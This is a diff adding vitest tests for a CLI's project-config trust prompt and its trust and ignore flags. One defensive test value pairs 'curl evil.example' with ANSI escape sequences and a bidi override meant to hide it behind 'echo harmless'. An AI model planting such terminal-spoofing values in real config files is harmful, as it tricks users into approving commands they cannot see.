@@ -1,0 +1,110 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { paint } from '../../../src/cli/commands/output';
+import { checkTrustFlags, formatUntrusted } from '../../../src/cli/commands/project-trust';
+
+const root = resolve(__dirname, '../../..');
+
+function runCli(args: string[], cwd: string): Promise<{ code: number; out: string }> {
+  return new Promise((done) => {
+    execFile(
+      process.execPath,
+      [join(root, 'node_modules/tsx/dist/cli.mjs'), join(root, 'src/cli/index.ts'), ...args],
+      { cwd, env: { ...process.env, CCR_NO_OPEN: '1', NO_COLOR: '1' }, timeout: 60_000 },
+      (err, stdout, stderr) => {
+        const code = err ? (typeof err.code === 'number' ? err.code : -1) : 0;
+        done({ code, out: `${stdout}${stderr}` });
+      },
+    );
+  });
+}
+
+describe('the settings shown before trusting a project config file', () => {
+  const file = '/r/claude-run.config.json';
+  const sha256 = 'a'.repeat(64);
+
+  it('shows key, why and the whole value, one value line per line', () => {
+    const text = formatUntrusted(
+      {
+        file,
+        sha256,
+        settings: [
+          { key: 'setupCommands', why: 'runs commands', value: 'make deps\nmake test' },
+          { key: 'agent', why: 'replaces the agent', value: `bash -c '${'x'.repeat(300)}'` },
+        ],
+      },
+      paint(false),
+    );
+    expect(text).toBe(
+      '  setupCommands: runs commands\n      make deps\n      make test\n' +
+        `  agent: replaces the agent\n      bash -c '${'x'.repeat(300)}'\n`,
+    );
+  });
+
+  it('cannot be repainted by the file: escape sequences and bidi overrides show as "?"', () => {
+    const text = formatUntrusted(
+      {
+        file,
+        sha256,
+        settings: [
+          {
+            key: 'agent',
+            why: 'replaces the agent',
+            value: 'curl evil.example\x1b[2K\x1b[1Gecho harmless \u202eabc',
+          },
+        ],
+      },
+      paint(false),
+    );
+    expect(text).not.toContain('\x1b');
+    expect(text).not.toContain('\u202e');
+    expect(text).toContain('curl evil.example?[2K?[1Gecho harmless ?abc');
+  });
+
+  it('says when a value was cut short by the core', () => {
+    const text = formatUntrusted(
+      { file, sha256, settings: [{ key: 'mounts', why: 'mounts', value: 'm'.repeat(2000) }] },
+      paint(false),
+    );
+    expect(text).toContain(`(shortened here; read ${file} for the whole value)`);
+  });
+});
+
+describe('--trust-project-config / --ignore-project-config', () => {
+  const made: string[] = [];
+  afterAll(async () => {
+    await Promise.all(made.map((d) => rm(d, { recursive: true, force: true })));
+  });
+
+  it('are one or the other', () => {
+    expect(() => checkTrustFlags({ trustProjectConfig: true })).not.toThrow();
+    expect(() => checkTrustFlags({ trustProjectConfig: true, ignoreProjectConfig: true })).toThrow(
+      /give either --trust-project-config or --ignore-project-config, not both/,
+    );
+  });
+
+  it('both together, on start or on `claude-run [folder]`, is refused before anything starts', async () => {
+    const folder = await mkdtemp(join(tmpdir(), 'ccr-cli-trust-'));
+    made.push(folder);
+    for (const args of [
+      ['start', '--trust-project-config', '--ignore-project-config'],
+      ['--ignore-project-config', folder, '--trust-project-config'],
+    ]) {
+      const { code, out } = await runCli(args, folder);
+      expect(code).toBe(1);
+      expect(out).toMatch(
+        /^error: give either --trust-project-config or --ignore-project-config, not both\nhint: /,
+      );
+      expect(out).not.toContain('Starting a session');
+    }
+  });
+
+  it('with a command that starts nothing is an error, not silently dropped', async () => {
+    const { code, out } = await runCli(['list', '--trust-project-config'], tmpdir());
+    expect(code).toBe(1);
+    expect(out).toMatch(/^error: --trust-project-config is for starting a session, not for `list`/);
+  });
+});
